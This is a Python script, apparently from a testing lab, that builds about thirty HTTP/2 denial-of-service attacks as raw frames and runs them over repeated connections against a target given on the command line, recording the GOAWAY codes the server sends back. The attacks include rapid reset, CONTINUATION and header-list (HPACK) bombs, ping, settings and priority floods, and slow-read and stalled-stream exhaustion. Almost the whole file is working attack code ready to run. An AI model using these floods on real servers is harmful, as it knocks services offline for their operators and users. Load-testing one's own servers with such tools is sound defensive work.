"""HTTP/2 attacks as bytes, and what sends them: `python3 http2_attacks.py NAME ADDRESS PORT SECONDS [MESSAGE]` runs one over a few
connections, again and again, and prints as JSON how many connections it made, what it sent and which GOAWAYs it heard.

An attack is a function of a round's number to the bytes of that round; the preface and SETTINGS stand before the first.
"""

import json
import os
import selectors
import socket
import sys
import time
from typing import Callable, NamedTuple

import frames
from frames import (CONTINUATION, DATA, ECHO, GOAWAY, HEADERS, LARGEST_ID, PADDED, PRIORITY, REQUEST, frame, headers, literal,
                    message, rst_stream, settings, window_update)

CONNECTIONS = 4
RECONNECTS = 20  # a second, in each place: an attacker has other costs too
# Of its time, an attacker without pauses has a core for so much, or goes on, at most so many times as long: who gets no core attacks
# nobody.
ON_CORE, PATIENCE = 0.02, 5
HELLO = frames.PREFACE + settings() + frames.ACKNOWLEDGED  # at once: many do not read
WINDOW = frames.INITIAL_WINDOW_SIZE


class Attack(NamedTuple):
    round: Callable[[int], bytes]
    hello: bytes = HELLO
    rounds: int = 10_000      # on one connection
    reads: bool = True        # what comes back
    pause: float = 0          # seconds between rounds


def streams(n: int, per_stream: Callable[[int], bytes], count: int = 200) -> bytes:
    """The n-th round of `count` streams."""
    return b"".join(per_stream(2 * (n * count + i) + 1) for i in range(count))


def asking(stream: int) -> bytes:
    """A whole request to the lab's service."""
    return headers(stream, ECHO) + frames.data(stream, message(BODY), True)


def first(n: int, once: bytes, then: bytes) -> bytes:
    return once if n == 0 else then


def with_window(n: int) -> bytes:
    """One byte of window for each of many answers, again and again."""
    if n == 0:
        return b"".join(asking(2 * i + 1) for i in range(50))
    return b"".join(window_update(2 * i + 1, 1) for i in range(50))


BODY = b""  # of a request to the lab's service that asks for a long answer

ATTACKS = {
    # As many small requests as the fastest attack here: what honest load costs the others.
    "honest": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True), 10), pause=0.005),
    "rapid_reset": Attack(lambda n: streams(n, lambda s: headers(s) + rst_stream(s, frames.CANCEL))),
    # Every second call is taken back, as a client that hedges does, and far more of them than a pod bears on one connection.
    "pod_resets": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True) if s % 4 == 1 else
                                           headers(s) + rst_stream(s, frames.CANCEL), 40), pause=0.005),
    # DATA behind the end of the request.
    "provoked_reset": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True) + frame(DATA, 0, s, bytes(10)))),
    "continuation": Attack(lambda n: first(n, frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 100)),
    "field_block": Attack(lambda n: first(n, frame(HEADERS, 0, 1, REQUEST),
                                          frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 16_000)) * 4)),
    "settings": Attack(lambda n: settings((WINDOW, 65_535 + n % 2)) * 1000),
    "ping": Attack(lambda n: frames.ping() * 1000),
    "priority": Attack(lambda n: frame(PRIORITY, 0, 1, bytes(5)) * 1000),
    "window_update": Attack(lambda n: window_update(0, 1) * 1000),
    "unknown_frame": Attack(lambda n: frame(0xfa, 0, 0, b"x" * 10) * 1000),
    "empty_data": Attack(lambda n: first(n, headers(1), frame(DATA, 0, 1) * 1000)),
    "tiny_data": Attack(lambda n: first(n, headers(1), frame(DATA, 0, 1, b"x") * 1000)),
    # Its windows allow little at once, and open at once.
    "padding": Attack(lambda n: first(n, headers(1), frame(DATA, PADDED, 1, b"\xc8x" + bytes(200)) * 200), pause=0.002),
    "unread_answers": Attack(lambda n: b"".join(frames.ping() * 90 + settings() * 9 for _ in range(10)), reads=False),
    # More than may be open, at once.
    "streams": Attack(lambda n: streams(n, headers)),
    # Behind the error of its first frame it goes on, deaf.
    "discarded": Attack(lambda n: frame(DATA, 0, 0, b"x" * 16_000) * 10, reads=False),
    "frame_size": Attack(lambda n: frames.number(2**24 - 1)[1:] + bytes(6) + b"x" * 100_000),
    # An entry of nearly the whole table, named over and over.
    "header_list": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"bomb", b"b" * 3900, True) + b"\xbe" * 4000, True), 20)),
    # The same entry twice in each of as many requests as may be open, which hang: a few bytes that keep 8 KB.
    "heap": Attack(lambda n: first(n, streams(0, lambda s: headers(s, ECHO + (literal(b"bomb", b"b" * 2900, True) if s == 1 else b"\xbe") +
                                                                   b"\xbe"), 128), b""), pause=0.1),
    "many_fields": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"a", b"") * 1000, True), 20)),
    "empty_name": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"", b"x"), True), 20)),
    # A new size of the peer's table, down and up, in each block.
    "table_churn": Attack(lambda n: streams(n, lambda s: headers(s, b"\x20\x3f\xe1\x1f" + REQUEST, True), 20), pause=0.002),
    "last_stream_id": Attack(lambda n: headers(LARGEST_ID, REQUEST, True)),
    "dribble": Attack(with_window, hello=HELLO + settings((WINDOW, 1)), pause=0.02),
    # What nothing but time shows.
    "preface": Attack(lambda n: b"", hello=b"", pause=0.1),
    "settings_ack": Attack(lambda n: first(n, b"", frames.ping()), hello=HELLO[:-9], pause=0.1),
    "slow_headers": Attack(lambda n: first(n, headers(1)[:-5], b""), pause=0.1),
    "stalled_stream": Attack(lambda n: first(n, b"".join(asking(2 * i + 1) for i in range(20)),
                                             frames.ping()), hello=HELLO + settings((WINDOW, 0)), pause=0.1),
    "slow_read": Attack(lambda n: first(n, b"".join(asking(2 * i + 1) for i in range(100)), b""),
                        hello=HELLO + settings((WINDOW, LARGEST_ID)) + window_update(0, LARGEST_ID - 65_535),
                        pause=0.1, reads=False),
}


class Connection:
    def __init__(self, attack: Attack, target: tuple) -> None:
        self.attack, self.n, self.due, self.got = attack, 0, 0.0, b""
        self.socket = socket.socket()
        if not attack.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(5)
        self.socket.connect(target)
        self.socket.setblocking(False)
        self.pending = memoryview(attack.hello)
        self.sent = 0
        self.codes: list = []

    def step(self, now: float) -> bool:
        """False when the connection has ended."""
        try:
            if self.attack.reads:
                self.read()
            if not self.pending and self.n < self.attack.rounds and now >= self.due:
                self.pending = memoryview(self.attack.round(self.n))
                self.n += 1
                self.due = now + self.attack.pause
            if self.pending:
                n = self.socket.send(self.pending)
                self.sent += n
                self.pending = self.pending[n:]
        except BlockingIOError:
            pass
        except OSError:
            try:
                self.read()  # the last words
            except OSError:
                pass
            return False
        return True

    def read(self) -> None:
        try:
            while True:
                some = self.socket.recv(65_536)
                if not some:
                    raise ConnectionResetError
                self.got += some
        except BlockingIOError:
            pass
        finally:
            whole, self.got = frames.split(self.got)
            self.codes += [one.code for one in whole if one.kind == GOAWAY]


def run(name: str, target: tuple, seconds: float) -> dict:
    attack = ATTACKS[name]
    begin, worked = time.monotonic(), time.process_time()

    def over(now: float) -> bool:
        idle = attack.pause == 0 and time.process_time() - worked < ON_CORE * seconds
        return now - begin >= seconds * (PATIENCE if idle else 1)

    connections = [Connection(attack, target) for _ in range(CONNECTIONS)]
    made, sent, codes, ended = len(connections), 0, [], 0
    selector = selectors.DefaultSelector()
    for c in connections:
        selector.register(c.socket, selectors.EVENT_WRITE)
    next_one = time.monotonic()
    while not over(now := time.monotonic()):
        selector.select(0.01)
        for c in list(connections):
            if c.step(now):
                continue
            ended += 1
            sent += c.sent
            codes += c.codes
            selector.unregister(c.socket)
            c.socket.close()
            connections.remove(c)
        while len(connections) < CONNECTIONS and now >= next_one:
            connections.append(Connection(attack, target))
            selector.register(connections[-1].socket, selectors.EVENT_WRITE)
            made += 1
            next_one = now + 1 / RECONNECTS / CONNECTIONS
        if attack.pause:
            time.sleep(attack.pause)
    for c in connections:
        sent += c.sent
        codes += c.codes
        c.socket.close()
    return {"connections": made, "ended": ended, "sent": sent, "goaways": {str(code): codes.count(code) for code in sorted(set(codes))}}


if __name__ == "__main__":
    os.nice(19)  # on one core with pods and clients, whose time is measured
    BODY = bytes.fromhex(sys.argv[5]) if len(sys.argv) > 5 else b""
    print(json.dumps(run(sys.argv[1], (sys.argv[2], int(sys.argv[3])), float(sys.argv[4]))))
